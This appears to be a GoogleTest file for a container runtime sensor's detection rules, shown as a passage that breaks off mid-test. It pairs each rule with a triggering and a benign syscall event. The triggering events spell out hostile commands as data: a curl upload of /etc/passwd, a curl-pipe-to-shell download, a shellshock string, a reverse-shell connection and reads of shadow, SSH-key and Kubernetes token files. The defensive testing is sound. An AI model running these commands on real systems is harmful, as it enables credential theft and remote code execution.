// The built-in node rules (src/sensor/rules/node_rules.yaml) through the real engine: they load
// with every rule enabled, next to Falco's own falco_rules.yaml (whose rules that use fields the
// sensor lacks are reported, not half-evaluated); each carries a seed alert type, MITRE ids of
// the ATT&CK containers matrix and a remediation; each rule has a recorded positive event that
// raises it and a negative one, close to it, that does not; docs/sensor.md maps every seed
// alert.

#include <gtest/gtest.h>

#include <algorithm>
#include <cstring>
#include <iostream>
#include <map>
#include <optional>
#include <set>
#include <sstream>

#include "core/bytes.h"
#include "csv.h"
#include "k8s/loader.h"
#include "mitre_techniques.h"
#include "rules/syscall_event.h"
#include "sensor/bpf/event_abi.h"
#include "sensor/decoder.h"
#include "sensor/detector.h"
#include "sensor/rules_event.h"

namespace moat::sensor {
namespace {

const std::string kShared = MOAT_SHARED_DATA_DIR;
const std::string kSource = MOAT_SOURCE_DIR;

// Seed alerts no sensor rule raises; docs/sensor.md says why.
const std::set<std::string> kNotObservable = {};

// Rules that count events (Moat's `threshold`): one event alone never raises them, so they have
// tests of their own below instead of a positive/negative pair.
const std::set<std::string> kThresholdRules = {"Moat Reconnaissance Burst"};

std::string ReadAll(const std::string& path) {
  auto text = ReadFileToString(path);
  EXPECT_TRUE(text.ok()) << path;
  return text.ok() ? *text : "";
}

// A deployment's threat-intelligence feed, appended as docs/sensor.md shows.
constexpr const char* kFeed = R"(
- list: moat_malicious_domains
  items: [evil.example]
  append: true
)";

std::unique_ptr<Detector> LoadDetector(bool with_feed) {
  const std::string path = ::testing::TempDir() + "/moat-feed.yaml";
  if (with_feed) {
    EXPECT_TRUE(WriteOutput(path, kFeed).ok());
  }
  DetectorOptions options;
  if (with_feed) options.rule_paths = {path};
  rules::LoadReport report;
  auto detector = Detector::Create(options, nullptr, &report);
  EXPECT_TRUE(detector.ok()) << detector.error().message;
  for (const auto& disabled : report.disabled)
    ADD_FAILURE() << disabled.name << ": " << disabled.reason;
  for (const auto& warning : report.warnings) ADD_FAILURE() << warning;
  return detector.ok() ? std::move(*detector) : nullptr;
}

// ---- Recorded events --------------------------------------------------------------------------

rules::SyscallProcess Process(int64_t pid, std::string name, std::string path,
                              std::vector<std::string> args = {}) {
  rules::SyscallProcess p;
  p.pid = pid;
  p.name = std::move(name);
  p.exe = p.name;
  p.exepath = std::move(path);
  p.args = std::move(args);
  return p;
}

// A process `name` of container "app" (image debian:12) started by bash, which runc started.
rules::SyscallEvent InContainer(std::string name = "bash") {
  rules::SyscallEvent e;
  e.time_ns = 1'700'000'000'000'000'000;
  e.proc = Process(200, name, "/usr/bin/" + name);
  e.ppid = 100;
  e.ancestors = {Process(100, "bash", "/usr/bin/bash"),
                 Process(50, "containerd-shim", "/usr/bin/containerd-shim-runc-v2")};
  e.container_id = "0123456789ab";
  e.container_name = "app";
  e.container_image = "debian:12";
  e.container_image_digest = "sha256:" + std::string(64, 'e');
  e.user_name = "root";
  return e;
}

rules::SyscallEvent OnHost(std::string name = "bash") {
  rules::SyscallEvent e = InContainer(std::move(name));
  e.container_id = "host";
  e.container_name = "host";
  e.container_image.clear();
  e.container_image_digest.clear();
  return e;
}

rules::SyscallEvent Exec(rules::SyscallEvent e, std::string path, std::vector<std::string> args) {
  e.type = "execve";
  e.proc.exepath = path;
  e.proc.exe = path;
  e.proc.name = path.substr(path.rfind('/') + 1).substr(0, 15);
  e.proc.args = std::move(args);
  return e;
}
rules::SyscallEvent Exec(std::string path, std::vector<std::string> args) {
  return Exec(InContainer(), std::move(path), std::move(args));
}
// The parent's name and, optionally, its command line ("name args...").
rules::SyscallEvent WithParent(rules::SyscallEvent e, std::string parent,
                               std::string cmdline = "") {
  e.ancestors[0].name = parent;
  e.ancestors[0].args.clear();
  if (!cmdline.empty()) {
    std::istringstream words(cmdline);
    std::string word;
    words >> word;  // the name
    while (words >> word) e.ancestors[0].args.push_back(word);
  }
  return e;
}

rules::SyscallEvent Open(rules::SyscallEvent e, std::string path, std::string flags) {
  e.type = "openat";
  e.args = {{"flags", std::move(flags)}};
  e.fd_num = 3;
  e.fd_typechar = 'f';
  e.fd_name = std::move(path);
  e.res = 3;
  return e;
}
rules::SyscallEvent Open(std::string process, std::string path, std::string flags) {
  return Open(InContainer(std::move(process)), std::move(path), std::move(flags));
}

rules::SyscallEvent Connect(rules::SyscallEvent e, std::string ip, int64_t port) {
  e.type = "connect";
  e.fd_num = 3;
  e.fd_typechar = ip.find(':') == std::string::npos ? '4' : '6';
  e.l4proto = "tcp";
  e.local_ip = "172.17.0.2";
  e.local_port = 40000;
  e.remote_ip = ip;
  e.remote_port = port;
  e.fd_connected = true;
  e.fd_name = "172.17.0.2:40000->" + ip + ":" + std::to_string(port);
  return e;
}
rules::SyscallEvent Connect(std::string process, std::string ip, int64_t port) {
  return Connect(InContainer(std::move(process)), std::move(ip), port);
}

rules::SyscallEvent Call(rules::SyscallEvent e, std::string type,
                         std::vector<std::pair<std::string, std::string>> args) {
  e.type = std::move(type);
  e.args.clear();
  for (auto& [name, value] : args) e.args.push_back({std::move(name), std::move(value)});
  return e;
}
rules::SyscallEvent Call(std::string type, std::vector<std::pair<std::string, std::string>> args,
                         std::string process = "bash") {
  return Call(InContainer(std::move(process)), std::move(type), std::move(args));
}

rules::SyscallEvent Dns(std::string name) {
  rules::SyscallEvent e = Connect("python3", "10.96.0.10", 53);
  e.type = "sendto";
  e.l4proto = "udp";
  e.args = {{"name", std::move(name)}, {"qtype", "A"}};
  return e;
}

rules::SyscallEvent Listen(rules::SyscallEvent e, std::string ip, int64_t port) {
  e.type = "listen";
  e.fd_num = 3;
  e.fd_typechar = '4';
  e.local_ip = std::move(ip);
  e.local_port = port;
  e.local_is_server = true;
  e.fd_name = e.local_ip + ":" + std::to_string(port);
  return e;
}

rules::SyscallEvent Privileged(rules::SyscallEvent e) {
  e.container_privileged = true;
  return e;
}
rules::SyscallEvent Image(rules::SyscallEvent e, std::string image) {
  e.container_image = std::move(image);
  return e;
}
rules::SyscallEvent UpperLayer(rules::SyscallEvent e, bool upper) {
  e.exe_upper_layer = upper;
  return e;
}
// Bind mounts' sources: the node's / among ordinary ones, and ordinary ones only (a
// subdirectory of /etc is not /etc).
const std::vector<std::string> kSensitiveMounts = {"/srv/app-data", "/"};
const std::vector<std::string> kOrdinaryMounts = {"/srv/app-data", "/etc/app-config"};
rules::SyscallEvent HostMounts(rules::SyscallEvent e, const std::vector<std::string>& sources) {
  e.container_host_mounts = &sources;
  return e;
}
rules::SyscallEvent FromImage(rules::SyscallEvent e, std::optional<bool> from_image) {
  e.exe_from_image = from_image;
  return e;
}
rules::SyscallEvent Memfd(rules::SyscallEvent e, bool memfd) {
  e.exe_from_memfd = memfd;
  return e;
}

struct RuleCase {
  std::string rule;
  rules::SyscallEvent positive;
  rules::SyscallEvent negative;
};

std::vector<RuleCase> Cases() {
  const std::string kToken = "/var/run/secrets/kubernetes.io/serviceaccount/token";
  return {
      {"Moat Namespace Created In Container",
       Call("unshare", {{"flags", "CLONE_NEWUSER|CLONE_NEWNS"}}, "unshare"),
       Call(OnHost("unshare"), "unshare", {{"flags", "CLONE_NEWUSER|CLONE_NEWNS"}})},
      {"Moat Shell History Cleared", Call("unlink", {{"path", "/root/.bash_history"}}, "rm"),
       Call("unlink", {{"path", "/root/.bashrc"}}, "rm")},
      {"Moat SOCKS Proxy Connection", Connect("python3", "10.1.2.3", 1080),
       Connect("python3", "10.1.2.3", 8080)},
      {"Moat Update Timer Stopped",
       Exec(OnHost(), "/usr/bin/systemctl", {"stop", "apt-daily-upgrade.timer"}),
       Exec(OnHost(), "/usr/bin/systemctl", {"status", "apt-daily-upgrade.timer"})},
      {"Moat Linux Bot Executed", Exec("/tmp/.x/mirai", {}), Exec("/usr/bin/mirage", {})},
      {"Moat Web Content Wiped", Exec("/usr/bin/rm", {"-rf", "/var/www/html"}),
       Exec("/usr/bin/rm", {"-f", "/var/www/html/cache.tmp"})},
      {"Moat Command In Privileged Container",
       Privileged(
           WithParent(Exec("/usr/bin/id", {}), "runc", "runc --root /r exec --process /p c1")),
       WithParent(Exec("/usr/bin/id", {}), "runc", "runc --root /r exec --process /p c1")},
      {"Moat Host Disk Mounted In Container",
       Call("mount", {{"dev", "/dev/vda"}, {"dir", "/mnt"}, {"fstype", "ext4"}}, "mount"),
       Call("mount", {{"dev", "/dev/null"}, {"dir", "/proc/kcore"}, {"fstype", ""}},
            "runc:[2:INIT]")},
      {"Moat Privileged Container Started",
       Privileged(WithParent(Exec("/usr/sbin/nginx", {"-g", "daemon off;"}), "runc",
                             "runc --root /r create --bundle /b c1")),
       Privileged(WithParent(Exec("/usr/sbin/nginx", {"-g", "daemon off;"}), "runc",
                             "runc --root /r exec --process /p c1"))},
      {"Moat Sensitive Host Path Mounted In Container",
       HostMounts(WithParent(Exec("/usr/bin/sleep", {"infinity"}), "runc:[2:INIT]"),
                  kSensitiveMounts),
       HostMounts(WithParent(Exec("/usr/bin/sleep", {"infinity"}), "runc:[2:INIT]"),
                  kOrdinaryMounts)},
      {"Moat Download From Malware Hosting Site",
       Exec("/usr/bin/curl", {"-s", "https://pastebin.com/raw/x1y2z3"}),
       Exec("/usr/bin/curl", {"-s", "https://example.com/index.html"})},
      {"Moat Download Into Temporary Directory",
       Open("curl", "/tmp/payload", "O_WRONLY|O_CREAT|O_TRUNC"),
       Open("curl", "/app/data/report.json", "O_WRONLY|O_CREAT|O_TRUNC")},
      {"Moat Package Manager Run In Container", Exec("/usr/bin/apt-get", {"install", "-y", "nmap"}),
       Exec("/usr/bin/apt-get", {"--version"})},
      {"Moat Nohup Of Temporary Program", Exec("/usr/bin/nohup", {"/tmp/.cache/run"}),
       Exec("/usr/bin/nohup", {"/usr/bin/python3", "app.py"})},
      {"Moat User Added", Exec("/usr/sbin/useradd", {"-m", "backdoor"}),
       Exec(OnHost(), "/usr/sbin/useradd", {"-m", "alice"})},
      {"Moat Miner Pool Connection", Connect("python3", "10.2.3.4", 3333),
       Connect("python3", "10.2.3.4", 443)},
      {"Moat Mining Pool Lookup", Dns("xmr-eu1.nanopool.org"), Dns("deb.debian.org")},
      {"Moat Miner Executed", Exec("/usr/local/bin/xmrig", {"-c", "config.json"}),
       Exec("/usr/local/bin/xmlint", {"config.xml"})},
      {"Moat Miner Command Line",
       Exec("/usr/local/bin/worker", {"-o", "stratum+tcp://pool.example:3333", "-u", "wallet"}),
       Exec("/usr/local/bin/worker", {"-o", "out.txt", "-u", "user"})},
      {"Moat Miner Download",
       Exec("/usr/bin/wget", {"https://github.com/xmrig/xmrig/releases/x.tar.gz"}),
       Exec("/usr/bin/wget", {"https://github.com/nginx/nginx/archive/x.tar.gz"})},
      {"Moat Image Built On Node", Exec(OnHost(), "/usr/bin/docker", {"build", "-t", "x", "."}),
       Exec(OnHost(), "/usr/bin/docker", {"ps"})},
      {"Moat Executable In Temporary Directory", Exec("/tmp/run", {}),
       Exec(OnHost(), "/tmp/cmake-try/a.out", {})},
      {"Moat Fileless Execution", Memfd(Exec("/memfd:payload", {}), true),
       Memfd(Exec("/usr/bin/ls", {}), false)},
      {"Moat Drift Executable Not From Image", UpperLayer(Exec("/usr/local/bin/tool", {}), true),
       UpperLayer(Exec("/usr/local/bin/tool", {}), false)},
      {"Moat DDoS Tool Executed", Exec("/usr/sbin/hping3", {"--flood", "10.0.0.1"}),
       Exec("/usr/bin/ping", {"-c", "1", "10.0.0.1"})},
      {"Moat Host Firewall Changed", Exec(OnHost(), "/usr/sbin/iptables", {"-F"}),
       Exec(OnHost(), "/usr/sbin/iptables", {"-L", "-n"})},
      {"Moat EICAR Test Program", Exec("/tmp/asc_alerttest_662jfi039n", {"testing", "eicar"}),
       Exec("/usr/bin/echo", {"testing", "eicar"})},
      {"Moat Attack Tool Executed", Exec("/usr/bin/nmap", {"-sS", "10.0.0.0/24"}),
       Exec("/usr/bin/nmcli", {"device"})},
      {"Moat Credential Access Tool Executed", Exec("/usr/sbin/john", {"hashes.txt"}),
       Exec("/usr/bin/join", {"a", "b"})},
      {"Moat Ptrace Attach In Container",
       Call("ptrace", {{"request", "PTRACE_ATTACH"}, {"target_pid", "42"}}, "python3"),
       Call("ptrace", {{"request", "PTRACE_TRACEME"}, {"target_pid", "0"}}, "python3")},
      {"Moat Upload Of Local Files",
       Exec("/usr/bin/curl", {"-F", "f=@/etc/passwd", "https://x.example/up"}),
       Exec("/usr/bin/curl", {"-d", "a=1", "https://x.example/up"})},
      {"Moat System Log Removed", Call("unlinkat", {{"path", "/var/log/auth.log"}}, "rm"),
       Call("unlinkat", {{"path", "/var/log/auth.log.2.gz"}}, "rm")},
      {"Moat Password Hash Generated", Exec("/usr/bin/openssl", {"passwd", "-6", "secret"}),
       Exec("/usr/bin/openssl", {"version"})},
      {"Moat Port Forwarding Tool", Exec("/usr/bin/ssh", {"-R", "8080:localhost:80", "x.example"}),
       Exec("/usr/bin/ssh", {"-p", "2222", "x.example"})},
      {"Moat Reverse Shell", Connect("bash", "10.0.0.9", 4242), Connect("curl", "10.0.0.9", 4242)},
      {"Moat Netcat Listener", Exec("/usr/bin/nc", {"-lvnp", "9001"}),
       Exec("/usr/bin/nc", {"-zv", "db", "5432"})},
      {"Moat SSH Key Access", Open("cat", "/root/.ssh/id_rsa", "O_RDONLY"),
       Open("sshd", "/root/.ssh/authorized_keys", "O_RDONLY")},
      {"Moat Security Process Terminated", Exec(OnHost(), "/usr/bin/pkill", {"-9", "falco"}),
       Exec(OnHost(), "/usr/bin/pkill", {"-9", "nginx"})},
      {"Moat SSH Server In Container", Exec("/usr/sbin/sshd", {"-D"}),
       Exec(OnHost(), "/usr/sbin/sshd", {"-D"})},
      {"Moat File Timestamp Changed",
       Exec("/usr/bin/touch", {"-r", "/bin/ls", "/usr/bin/backdoor"}),
       Exec("/usr/bin/touch", {"/usr/bin/new"})},
      {"Moat Kubernetes API Tool In Container",
       Exec("/usr/bin/curl", {"-k", "https://kubernetes.default.svc/api/v1/secrets"}),
       Exec("/usr/bin/curl", {"-k", "https://shop.example/api/v2/items"})},
      {"Moat Service Account Token Read", Open("cat", kToken, "O_RDONLY"),
       Open("app-server", kToken, "O_RDONLY")},
      {"Moat Kubernetes Dashboard Request",
       Dns("kubernetes-dashboard.kubernetes-dashboard.svc.cluster.local"),
       Dns("grafana.monitoring.svc.cluster.local")},
      {"Moat Password File Read", Open("cat", "/etc/shadow", "O_RDONLY"),
       Open("unix_chkpwd", "/etc/shadow", "O_RDONLY")},
      {"Moat DNS Over HTTPS Resolver Connection", Connect("python3", "1.1.1.1", 443),
       Connect("python3", "1.1.1.1", 53)},
      {"Moat Malicious Domain Lookup", Dns("evil.example"), Dns("notevil.example")},
      {"Moat Web Server Spawned Shell", WithParent(Exec("/bin/sh", {"-c", "id"}), "php-fpm8.2"),
       WithParent(Exec("/bin/sh", {"-c", "id"}), "bash")},
      {"Moat Command Line Exploit Pattern",
       Exec("/usr/bin/env", {"x=() { :;}; /bin/cat /etc/passwd"}),
       Exec("/usr/bin/env", {"x=1", "/bin/cat", "/etc/hostname"})},
      {"Moat Download Piped To Shell",
       Exec("/bin/sh", {"-c", "curl -fsSL http://x.example/i.sh | sh"}),
       Exec("/bin/sh", {"-c", "curl -fsSL http://x.example/i.sh -o /opt/i.sh"})},
      {"Moat Kubelet Credentials Read",
       Open(OnHost("cat"), "/var/lib/kubelet/kubeconfig", "O_RDONLY"),
       Open(OnHost("kubelet"), "/var/lib/kubelet/kubeconfig", "O_RDONLY")},
      {"Moat Cloud Metadata Service Access", Connect("curl", "169.254.169.254", 80),
       Connect("curl", "169.254.1.1", 80)},
      {"Moat Caldera Agent",
       Exec("/tmp/splunkd", {"-server", "http://10.0.0.5:8888", "-group", "red", "-v"}),
       Exec("/opt/splunk/bin/splunkd", {"start"})},
      {"Moat Miner Image Running",
       Image(WithParent(Exec("/xmrig/xmrig", {}), "runc:[2:INIT]"), "xmrig/xmrig:latest"),
       WithParent(Exec("/xmrig/xmrig2", {}), "runc:[2:INIT]")},
      {"Moat Docker API On TCP", Listen(OnHost("dockerd"), "0.0.0.0", 2375),
       Listen(OnHost("dockerd"), "127.0.0.1", 2375)},
  };
}

std::vector<std::string> RuleNames(const std::vector<Alert>& alerts) {
  std::vector<std::string> names;
  for (const Alert& alert : alerts) names.push_back(alert.rule);
  return names;
}

TEST(NodeRulesTest, EachRuleRaisesOnItsPositiveEventAndNotOnItsNegative) {
  auto detector = LoadDetector(/*with_feed=*/true);
  ASSERT_TRUE(detector);
  std::set<std::string> tested;
  for (const RuleCase& c : Cases()) {
    SCOPED_TRACE(c.rule);
    tested.insert(c.rule);
    auto positive = RuleNames(detector->Evaluate(c.positive));
    auto negative = RuleNames(detector->Evaluate(c.negative));
    EXPECT_NE(std::find(positive.begin(), positive.end(), c.rule), positive.end())
        << "positive raised: " << testing::PrintToString(positive);
    EXPECT_EQ(std::find(negative.begin(), negative.end(), c.rule), negative.end());
  }
  // Every built-in rule has its pair (or, counting events, its own test).
  auto document = k8s::ParseYamlDocument(BuiltinNodeRules(), "builtin");
  ASSERT_TRUE(document.ok());
  for (const k8s::Value& item : document->Items()) {
    if (const k8s::Value* rule = item.Get("rule")) {
      const std::string name(rule->Str());
      EXPECT_TRUE(tested.count(name) || kThresholdRules.count(name)) << "no test events: " << name;
      EXPECT_EQ(item.Get("threshold") != nullptr, kThresholdRules.count(name) == 1) << name;
    }
  }
}

// dpkg runs a package's maintainer scripts from files it has just written (the writable layer
// in an image build's RUN step): not drift. The same script run by a shell is.
TEST(NodeRulesTest, DriftLeavesPackageMaintainerScriptsAlone) {
  auto detector = LoadDetector(false);
  ASSERT_TRUE(detector);
  rules::SyscallEvent script =
      UpperLayer(Exec("/var/lib/dpkg/info/moat-benign-tool.postinst", {"configure"}), true);
  auto by_shell = RuleNames(detector->Evaluate(script));
  EXPECT_NE(std::find(by_shell.begin(), by_shell.end(), "Moat Drift Executable Not From Image"),
            by_shell.end());
  script.ancestors.insert(script.ancestors.begin(), Process(90, "dpkg", "/usr/bin/dpkg"));
  auto by_dpkg = RuleNames(detector->Evaluate(script));
  EXPECT_EQ(std::find(by_dpkg.begin(), by_dpkg.end(), "Moat Drift Executable Not From Image"),
            by_dpkg.end());
}

// Drift against the image inventory: a program absent from the image's executables is drift
// once per exec, whether or not it is also on the writable layer; an unknown inventory (the
// field absent), a memfd (Fileless Execution's) and the runtime's own docker-init are not.
TEST(NodeRulesTest, DriftAgainstTheImageInventory) {
  auto detector = LoadDetector(false);
  ASSERT_TRUE(detector);
  const std::string kDrift = "Moat Drift Executable Not From Image";
  auto drift_alerts = [&](const rules::SyscallEvent& e) {
    auto names = RuleNames(detector->Evaluate(e));
    return std::count(names.begin(), names.end(), kDrift);
  };
  EXPECT_EQ(drift_alerts(FromImage(Exec("/data/tool", {}), false)), 1);
  EXPECT_EQ(drift_alerts(FromImage(Exec("/usr/bin/true", {}), true)), 0);
  EXPECT_EQ(drift_alerts(FromImage(Exec("/data/tool", {}), std::nullopt)), 0);
  EXPECT_EQ(drift_alerts(UpperLayer(FromImage(Exec("/usr/local/bin/x", {}), false), true)), 1);
  // On the writable layer at an image file's path (a replaced /usr/bin/curl): the path is the
  // image's, the file is not.
  EXPECT_EQ(drift_alerts(UpperLayer(FromImage(Exec("/usr/bin/curl", {}), true), true)), 1);
  auto memfd = Memfd(FromImage(Exec("/memfd:payload", {}), false), true);
  EXPECT_EQ(drift_alerts(memfd), 0);
  auto fileless = RuleNames(detector->Evaluate(memfd));
  EXPECT_NE(std::find(fileless.begin(), fileless.end(), "Moat Fileless Execution"), fileless.end());
  EXPECT_EQ(drift_alerts(FromImage(Exec("/usr/sbin/docker-init", {"--", "sleep"}), false)), 0);
  EXPECT_EQ(drift_alerts(FromImage(Exec("/sbin/docker-init", {"--", "sleep"}), false)), 0);
  // runc 1.2+'s init may run inside the container's cgroup: the host's runc, not drift.
  EXPECT_EQ(drift_alerts(FromImage(Exec("/usr/bin/runc", {"init"}), false)), 0);
  auto under_dpkg = FromImage(Exec("/data/postinst", {"configure"}), false);
  under_dpkg.ancestors.insert(under_dpkg.ancestors.begin(), Process(90, "dpkg", "/usr/bin/dpkg"));
  EXPECT_EQ(drift_alerts(under_dpkg), 0);
  // On the host the sensor never sets the field; a host event with it set is still not drift.
  EXPECT_EQ(drift_alerts(FromImage(Exec(OnHost(), "/data/tool", {}), false)), 0);
  // The output says which way it was seen.
  auto alerts = detector->Evaluate(FromImage(Exec("/data/tool", {}), false));
  auto it =
      std::find_if(alerts.begin(), alerts.end(), [&](const Alert& a) { return a.rule == kDrift; });
  ASSERT_NE(it, alerts.end());
  EXPECT_NE(it->output.find("exe=/data/tool"), std::string::npos) << it->output;
  EXPECT_NE(it->output.find("upper_layer=false in_image=false"), std::string::npos) << it->output;
}

// What sensor.bpf.c records for mount(source, target, fstype, flags, NULL) (event_abi.h): the
// header, then source, target and fstype as length-prefixed fields.
std::vector<uint8_t> MountRecord(uint32_t pid, const char* comm, std::string_view source,
                                 std::string_view target, std::string_view fstype, uint64_t flags) {
  moat_event_header header{};
  header.type = MOAT_EV_MOUNT;
  header.pid = pid;
  header.tid = pid;
  header.num[3] = flags;
  header.num[11] = 165;  // x86_64 mount
  std::strncpy(header.comm, comm, sizeof header.comm - 1);
  std::string fields;
  for (std::string_view field : {source, target, fstype}) {
    const auto length = static_cast<uint16_t>(field.size());
    fields.append(reinterpret_cast<const char*>(&length), 2);
    fields.append(field);
    ++header.var_count;
  }
  header.size = static_cast<uint32_t>(sizeof header + fields.size());
  std::vector<uint8_t> record(sizeof header);
  std::memcpy(record.data(), &header, sizeof header);
  record.insert(record.end(), fields.begin(), fields.end());
  return record;
}

// The node's disk mounted from a container, as recorded kernel records through the decoder, the
// enrichment's conversion and the rules (the private engine of the attack test cannot give a
// container the device here): mount(8)'s call raises the rule with the container; runc's bind of
// /dev/null over a masked path and a tmpfs do not.
TEST(NodeRulesTest, HostDiskMountFromRecordedKernelRecords) {
  auto detector = LoadDetector(false);
  ASSERT_TRUE(detector);
  ContainerInfo container;
  container.id = std::string(64, 'a');
  container.name = "escape";
  container.image = "debian:12";
  container.resolved = true;
  ProcessInfo mount_process;
  mount_process.pid = 4242;
  mount_process.ppid = 4240;
  mount_process.comm = "mount";
  mount_process.exec.exe = "/usr/bin/mount";
  mount_process.exec.argv = {"mount", "/dev/vda", "/mnt/host"};
  mount_process.container_id = container.id;
  auto alerts_of = [&](const std::vector<uint8_t>& record) {
    auto event = DecodeRecord(record);
    EXPECT_TRUE(event.ok()) << event.error().message;
    if (!event.ok()) return std::vector<std::string>();
    EnrichedEvent enriched;
    enriched.event = &*event;
    enriched.time_ns = 1'700'000'000'000'000'000;
    enriched.process = &mount_process;
    enriched.container = &container;
    return RuleNames(detector->Evaluate(ToSyscallEvent(enriched, 1)));
  };
  const std::vector<std::string> kRule = {"Moat Host Disk Mounted In Container"};
  EXPECT_EQ(alerts_of(MountRecord(4242, "mount", "/dev/vda", "/mnt/host", "ext4", 0)), kRule);
  EXPECT_EQ(alerts_of(MountRecord(4242, "mount", "/dev/nvme0n1p2", "/mnt", "xfs", 1)), kRule);
  mount_process.comm = "runc:[2:INIT]";
  EXPECT_TRUE(alerts_of(MountRecord(4242, "runc:[2:INIT]", "/dev/null", "/proc/kcore", "",
                                    0x1000 /* MS_BIND */))
                  .empty());
  EXPECT_TRUE(alerts_of(MountRecord(4242, "runc:[2:INIT]", "tmpfs", "/dev", "tmpfs", 0)).empty());
}

// The reconnaissance burst: five distinct commands of the list within a minute in one container
// raise one alert; the commands of the benign test (ps and id, again and again), a slower pace,
// two containers' commands together and maintainer scripts of a package install do not.
TEST(NodeRulesTest, ReconnaissanceBurstCountsDistinctCommandsPerContainer) {
  constexpr const char* kRule = "Moat Reconnaissance Burst";
  constexpr int64_t kSecond = 1'000'000'000;
  auto at = [](rules::SyscallEvent e, int64_t seconds, std::string container = "0123456789ab") {
    e.time_ns += seconds * kSecond;
    e.container_id = std::move(container);
    return e;
  };
  auto raised = [&](Detector& detector, const rules::SyscallEvent& e) {
    auto names = RuleNames(detector.Evaluate(e));
    return std::count(names.begin(), names.end(), kRule);
  };
  {
    auto detector = LoadDetector(false);
    ASSERT_TRUE(detector);
    // The benign loop: ps and id thirty times, with ls, date and grep, raise nothing.
    for (int i = 0; i < 30; ++i) {
      for (const char* path : {"/usr/bin/ps", "/usr/bin/id", "/usr/bin/ls", "/usr/bin/date"}) {
        EXPECT_EQ(raised(*detector, at(Exec(path, {}), i)), 0) << path;
      }
    }
    // uname, whoami make four distinct; hostname the fifth: one alert, naming all five.
    EXPECT_EQ(raised(*detector, at(Exec("/usr/bin/uname", {"-a"}), 31)), 0);
    EXPECT_EQ(raised(*detector, at(Exec("/usr/bin/whoami", {}), 32)), 0);
    auto alerts = detector->Evaluate(at(Exec("/usr/bin/hostname", {}), 33));
    ASSERT_EQ(alerts.size(), 1u);
    EXPECT_EQ(alerts[0].rule, kRule);
    EXPECT_EQ(SeedAlertType(alerts[0]), "K8S.NODE_ReconnaissanceArtifactsBurst");
    EXPECT_EQ(alerts[0].priority, AlertPriority::kNotice);
    EXPECT_EQ(alerts[0].container.id, "0123456789ab");
    EXPECT_NE(alerts[0].output.find("5 distinct proc.name within 1m: hostname, id, ps, uname, "
                                    "whoami"),
              std::string::npos)
        << alerts[0].output;
    // Started over: two more are not a burst.
    EXPECT_EQ(raised(*detector, at(Exec("/usr/bin/df", {}), 34)), 0);
    EXPECT_EQ(raised(*detector, at(Exec("/usr/bin/getent", {"passwd"}), 35)), 0);
  }
  {
    // Two containers, three commands each, and a host shell with all five: nothing.
    auto detector = LoadDetector(false);
    ASSERT_TRUE(detector);
    for (const char* path : {"/usr/bin/id", "/usr/bin/uname", "/usr/bin/whoami"}) {
      EXPECT_EQ(raised(*detector, at(Exec(path, {}), 0, "aaaaaaaaaaaa")), 0);
      EXPECT_EQ(raised(*detector, at(Exec(path, {}), 0, "bbbbbbbbbbbb")), 0);
    }
    for (const char* path :
         {"/usr/bin/id", "/usr/bin/uname", "/usr/bin/whoami", "/usr/bin/ps", "/usr/bin/df"}) {
      EXPECT_EQ(raised(*detector, Exec(OnHost(), path, {})), 0);
    }
    // One every 20 s: never five within a minute.
    const char* slow[] = {"/usr/bin/id", "/usr/bin/uname",    "/usr/bin/whoami", "/usr/bin/ps",
                          "/usr/bin/df", "/usr/bin/hostname", "/usr/bin/getent"};
    for (int i = 0; i < 7; ++i) {
      EXPECT_EQ(raised(*detector, at(Exec(slow[i], {}), 100 + 20 * i, "cccccccccccc")), 0);
    }
    // A package's maintainer scripts run under dpkg: not counted.
    for (const char* path :
         {"/usr/bin/id", "/usr/bin/uname", "/usr/bin/whoami", "/usr/bin/ps", "/usr/bin/df"}) {
      rules::SyscallEvent e = at(Exec(path, {}), 300, "dddddddddddd");
      e.ancestors.push_back(Process(40, "dpkg", "/usr/bin/dpkg"));
      EXPECT_EQ(raised(*detector, e), 0);
    }
  }
}

TEST(NodeRulesTest, AlertsCarryTheResourcesTheSeedTypeAndMitre) {
  auto detector = LoadDetector(false);
  ASSERT_TRUE(detector);
  rules::SyscallEvent e = Connect("bash", "10.0.0.9", 4242);
  auto alerts = detector->Evaluate(e);
  ASSERT_EQ(alerts.size(), 1u);
  const Alert& alert = alerts[0];
  EXPECT_EQ(alert.rule, "Moat Reverse Shell");
  EXPECT_EQ(SeedAlertType(alert), "K8S.NODE_ReverseShell");
  EXPECT_EQ(alert.priority, AlertPriority::kWarning);
  ASSERT_EQ(alert.mitre.size(), 2u);
  EXPECT_EQ(alert.mitre[0].tactic, "execution");
  EXPECT_EQ(alert.container.id, "0123456789ab");
  EXPECT_EQ(alert.container.image, "debian:12");
  EXPECT_EQ(alert.proc.pid, 200);
  EXPECT_EQ(alert.proc.user, "root");
  ASSERT_EQ(alert.proc.ancestors.size(), 2u);
  EXPECT_EQ(alert.proc.ancestors[0].name, "bash");
  EXPECT_NE(alert.output.find("172.17.0.2:40000->10.0.0.9:4242"), std::string::npos)
      << alert.output;
}

TEST(NodeRulesTest, EachRuleHasPriorityMitreRemediationAndASeedType) {
  std::map<std::string, std::string> techniques = ReadMitreContainerTechniques(
      kShared + "/runtime/mitre_attack_containers_techniques.tsv");  // id -> tactics
  ASSERT_FALSE(techniques.empty());
  auto document = k8s::ParseYamlDocument(BuiltinNodeRules(), "builtin");
  ASSERT_TRUE(document.ok()) << document.error().message;
  std::set<std::string> covered;
  size_t rules = 0;
  for (const k8s::Value& item : document->Items()) {
    const k8s::Value* rule = item.Get("rule");
    if (!rule) continue;
    ++rules;
    SCOPED_TRACE(rule->Str());
    const k8s::Value* priority = item.Get("priority");
    EXPECT_TRUE(priority && ParseAlertPriority(priority->Str()));
    const k8s::Value* remediation = item.Get("remediation");
    EXPECT_TRUE(remediation && remediation->Str().size() > 20) << "no remediation";
    const k8s::Value* desc = item.Get("desc");
    EXPECT_TRUE(desc && desc->Str().size() > 30) << "no description";
    bool seed = false;
    std::set<std::string> tag_techniques;
    for (const k8s::Value& tag : item.Get("tags")->Items()) {
      const std::string text(tag.Str());
      if (text.rfind("K8S.NODE_", 0) == 0 || text.rfind("VM_", 0) == 0) {
        covered.insert(text);
        seed = true;
      }
      if (text.size() > 1 && text[0] == 'T' && isdigit(static_cast<unsigned char>(text[1]))) {
        tag_techniques.insert(text);
      }
    }
    EXPECT_TRUE(seed) << "no seed alert type among the tags";
    const k8s::Value* mitre = item.Get("mitre");
    ASSERT_TRUE(mitre) << "no mitre";
    std::set<std::string> mitre_techniques;
    for (const k8s::Value& entry : mitre->Items()) {
      const std::string tactic(entry.Get("tactic")->Str());
      EXPECT_FALSE(tactic.empty());
      if (const k8s::Value* id = entry.Get("technique_id")) {
        const std::string technique(id->Str());
